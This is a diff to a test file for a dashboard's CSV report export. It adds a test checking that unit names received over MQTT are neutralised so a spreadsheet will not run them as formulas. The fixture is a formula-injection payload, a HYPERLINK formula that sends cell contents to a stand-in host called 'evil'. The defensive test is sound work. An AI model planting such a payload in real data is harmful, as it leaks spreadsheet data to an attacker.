@@ -2,7 +2,7 @@ import { unzipSync, strFromU8 } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_SCALE, SCALE_4, localMidnight } from '../../../core/index.ts';
 import type { Tally } from '../../../core/index.ts';
-import { BOM, csvField, reportCsv } from '../../../dashboard/src/reports/csv.ts';
+import { BOM, reportCsv } from '../../../dashboard/src/reports/csv.ts';
 import {
   buildReport,
   placeName,
@@ -146,8 +146,13 @@ describe('CSV export', () => {
       'Tổng cộng,104,66,36,2,98.08,80.77,,,,',
       '',
     ]);
-    expect(csvField(null)).toBe('');
-    expect(csvField('a\nb')).toBe('"a\nb"');
+  });
+
+  it('defuses a unit name that a spreadsheet would run as a formula (names come from MQTT)', () => {
+    const report = buildReport(input());
+    const evil = { ...report, rows: [{ ...report.rows[0]!, unit: '=HYPERLINK("http://evil/?"&A1,"Quầy 1")' }] };
+    const line = reportCsv(evil).split('\r\n')[1]!;
+    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
   });
 });
 
